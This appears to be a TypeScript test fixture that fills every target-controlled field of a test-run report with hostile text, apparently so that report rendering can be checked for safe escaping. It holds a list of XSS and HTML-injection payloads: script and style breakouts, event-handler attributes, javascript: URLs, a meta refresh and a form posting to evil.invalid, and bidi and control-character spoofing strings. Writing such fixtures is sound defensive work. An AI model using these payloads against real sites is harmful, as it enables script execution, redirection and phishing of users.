/** Results in which every text that a target can have a say in tries to break out of the page. */

import type { Evidence } from '../../deployment/http/exchange.ts'
import type { CheckResult } from '../../runner/check-result.ts'
import { outcomes } from '../../specs/outcomes.ts'
import { checkOf, failedCheck, resultsOf } from '../results.fixture.ts'
import type { Results } from '../results.ts'

const attack = 'window.attacked=1;alert(1)'

/** Each of these would run, load, lead away or mislead if it were written as it is. */
export const attacks = [
  `</script><script>${attack}</script>`,
  `</style><script>${attack}</script>`,
  `</title></textarea></template></svg></math><img src=x onerror="${attack}">`,
  `"><svg onload="${attack}">`,
  `' onmouseover='${attack}' onfocus='${attack}' autofocus='`,
  `\` onclick=${attack} \``,
  `javascript:${attack}`,
  `<iframe srcdoc="<script>parent.${attack}</script>"></iframe>`,
  '<link rel=stylesheet href=http://evil.invalid/a.css><base href=http://evil.invalid/>',
  '<meta http-equiv=refresh content="0;url=http://evil.invalid/">',
  '<!--<script>',
  ']]><![CDATA[',
  '<style>*{display:none}</style>',
  '<form action=http://evil.invalid/><input name=q><button>Copy</button></form>',
  'user\u202egnp.exe\u2066\u200b\u0000\u001b[2J\u2028\ud800',
  '&lt;script&gt;&#60;b&#62;&amp;',
]

/** All of them in one text. */
export const hostile = attacks.join('\n')

function hostileCheck(id: CheckResult['id']): CheckResult {
  const check = failedCheck(id, hostile)
  const json = JSON.stringify({ [hostile]: hostile, workspace: { id: hostile, list: [hostile] } })
  const wellFormed = hostile.replaceAll('\ud800', '')
  const form = new URLSearchParams([
    [wellFormed, wellFormed],
    ['items', 'a'],
  ]).toString()
  const exchange = (body: string, answer: string): Evidence => ({
    class: 'refused',
    operation: hostile,
    request: { method: hostile, url: `javascript:${hostile}`, headers: { [hostile]: hostile }, body },
    response: {
      status: 200,
      headers: { 'content-type': hostile, [hostile]: hostile },
      body: answer,
      durationMs: 5,
    },
    curl: hostile,
    actor: hostile,
    atMs: 10,
  })
  const { response: _, ...broken } = exchange(hostile, '')
  return {
    ...check,
    title: hostile,
    failure: {
      message: hostile,
      expected: attacks,
      actual: hostile,
      counterexample: json,
      path: hostile,
      repeat: hostile,
      marks: { request: [hostile, 'items'], response: ['workspace.id', hostile] },
    },
    evidence: [exchange(hostile, hostile), { ...broken, error: hostile }, exchange(form, json)],
  }
}

/** A run against a target that means harm; written as if nothing of it had been made harmless before. */
export function hostileResults(): Results {
  const waiver = { reason: hostile, owner: hostile, link: `javascript:${attack}`, expires: hostile }
  const results = resultsOf(
    [
      hostileCheck('add-workspace/creates'),
      hostileCheck(`protocol/form-post:${hostile}`),
      hostileCheck('sync-workspace/one-at-a-time'),
      { ...hostileCheck('add-workspace/name-limit-rejects'), outcome: 'waived', ...{ waiver } },
      ...outcomes.map((outcome) =>
        checkOf(`protocol/post-only:${outcome}`, { outcome, reason: hostile, title: hostile }),
      ),
      checkOf('sync-workspace/starts', { outcome: 'not-tested', reason: hostile }),
      checkOf('sync-workspace/unknown-workspace', { outcome: 'inconclusive', reason: hostile }),
    ],
    {
      suite: { version: hostile },
      target: { baseUrl: hostile, version: hostile, edition: hostile, profile: hostile },
      errors: [hostile],
      observations: [{ id: 'sync-job', operation: 'sync-workspace', question: hostile, observed: hostile }],
      roles: [{ operation: 'add-workspace', actor: 'anonymous', observed: 'allowed', wrong: true }],
    },
  )
  const text = JSON.stringify(results)
  const { requirements, roles = [], run, ...others } = JSON.parse(text) as Results
  const strange = {
    id: hostile,
    level: hostile,
    operation: hostile,
    kind: hostile,
    section: hostile,
    text: hostile,
  }
  return {
    ...others,
    run: {
      ...run,
      id: hostile,
      startedAt: hostile,
      selection: { operations: [hostile], requirements: [hostile] },
    },
    requirements: [...requirements, { ...requirements[0]!, ...(strange as object) }],
    roles: [...roles, { ...roles[0]!, ...({ operation: hostile, actor: hostile } as object) }],
  }
}
